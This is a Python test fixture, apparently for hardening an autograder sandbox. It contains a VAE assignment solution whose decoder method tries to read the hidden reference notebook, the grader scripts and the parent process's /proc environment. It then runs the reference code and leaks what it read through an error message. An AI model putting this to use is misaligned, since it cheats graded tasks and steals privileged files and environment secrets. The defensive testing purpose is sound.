# attack: reads the solution notebook, the graders, the grader's command line and environment, to copy the solution's decoder (and to leak them in its error message)
# stopped by: the kit's folder is hidden (mount namespace) and unreadable to the sandbox uid; /proc shows only the child's own processes; the grader is not dumpable
# groups: decoder,kl_divergence
# zero: decoder
# full: kl_divergence
# message: decoder raised PermissionError|decoder raised FileNotFoundError
# needs: root
# Hostile fixture of tests/test_hostile.py: every loop, allocation, fork and sleep in it is bounded.
# @KIT@, @RESULTS@, @SENTINEL@ and @PORT@ are filled in by the test before grading.
class VAE(nn.Module):
    def __init__(self, obs_dim, latent_dim, hidden_dim=100):
        super().__init__()
        self.latent_dim = latent_dim
        self.linear1 = nn.Linear(obs_dim, hidden_dim)
        self.linear21 = nn.Linear(hidden_dim, latent_dim)
        self.linear22 = nn.Linear(hidden_dim, latent_dim)
        self.linear3 = nn.Linear(latent_dim, hidden_dim)
        self.linear4 = nn.Linear(hidden_dim, obs_dim)

    def encoder(self, x):
        hidden = F.relu(self.linear1(x))
        return self.linear21(hidden), self.linear22(hidden)

    def sample_with_reparam(self, mu, logsigma):
        epsilon = torch.randn_like(mu)
        return mu + torch.exp(logsigma) * epsilon

    def decoder(self, z):
        os = __import__("os")
        json = __import__("json")
        leaked, errors = [], []
        paths = ["@KIT@/solution/vae.ipynb", "@KIT@/autograder/graders/grade_decoder.py", "@KIT@/autograder/oracle.py",
                 f"/proc/{os.getppid()}/cmdline", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/maps"]
        for path in paths:
            try:
                with open(path) as f:
                    leaked.append(f.read())
            except OSError as exc:
                errors.append(exc)
        for text in leaked:
            if '"cell_type"' in text:  # the solution notebook: run its decoder
                for cell in json.loads(text)["cells"]:
                    if "class VAE" in "".join(cell["source"]):
                        namespace = dict(globals())
                        exec("".join(cell["source"]), namespace)
                        return namespace["VAE"].decoder(self, z)
        if leaked:
            raise ValueError("\n".join(leaked)[:1900])
        raise errors[0]

    def kl_divergence(self, mu, logsigma):
        variance = torch.exp(2 * logsigma)
        return 0.5 * (variance + mu ** 2 - 1 - 2 * logsigma).sum(dim=-1)

    def elbo(self, x):
        mu, logsigma = self.encoder(x)
        z = self.sample_with_reparam(mu, logsigma)
        theta = self.decoder(z)
        log_likelihood = -F.binary_cross_entropy(theta, x, reduction="none").sum(dim=-1)
        return log_likelihood - self.kl_divergence(mu, logsigma)

    def sample(self, num_samples):
        z = torch.randn(num_samples, self.latent_dim, device=self.linear3.weight.device)
        return torch.bernoulli(self.decoder(z))
